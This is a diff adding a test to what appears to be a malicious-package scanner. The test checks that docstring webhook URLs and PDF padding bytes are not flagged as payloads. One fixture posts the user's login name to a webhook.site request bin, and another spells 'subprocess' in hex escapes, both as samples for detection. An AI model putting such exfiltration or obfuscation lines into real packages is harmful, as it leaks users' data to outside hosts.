@@ -1065,3 +1065,28 @@ fn client_behaviour_of_ranks_3001_to_4000_is_told_from_theft() {
     let r = sdist(&[("setup.py", beacon)]);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+/// Cases from bench/scan's 329-package environment (real installs).
+#[test]
+fn documentation_and_binary_constants_are_not_payloads() {
+    // huggingface_hub 0.36.2: a request bin as a docstring example.
+    let api = "def create_webhook(url):\n    \"\"\"Create a webhook.\n\n    >>> create_webhook(url=\"https://webhook.site/your-webhook-url\")\n    \"\"\"\n    import requests\n    return requests.post('https://huggingface.co/api/settings/webhooks', json={'url': url})\n";
+    let r = wheel(&[("pkg/__init__.py", api)]);
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    // The same address sent to is a request bin in use.
+    let probe = "import getpass, requests\nrequests.post('https://webhook.site/0c7f', data=getpass.getuser())\n";
+    let r = wheel(&[("pkg/__init__.py", probe)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // PyPDF2 1.27.4: the PDF spec's encryption padding as escaped bytes.
+    let pdf = "def b_(s):\n    return s.encode('latin-1')\n_encryption_padding = b_('\\x28\\xbf\\x4e\\x5e\\x4e\\x75\\x8a\\x41\\x64\\x00\\x4e\\x56') + b_('\\xff\\xfa\\x01\\x08\\x2e\\x2e\\x00\\xb6\\xd0\\x68\\x3e\\x80\\x2f\\x0c')\n";
+    let r = wheel(&[("pkg/__init__.py", pdf)]);
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    // Text spelled in escapes still is obfuscation.
+    let hidden = "name = '\\x73\\x75\\x62\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'\n";
+    let r = wheel(&[("pkg/__init__.py", hidden)]);
+    assert!(
+        r.findings.iter().any(|f| f.code == "custody::obfuscation"),
+        "{:#?}",
+        r.findings
+    );
+}
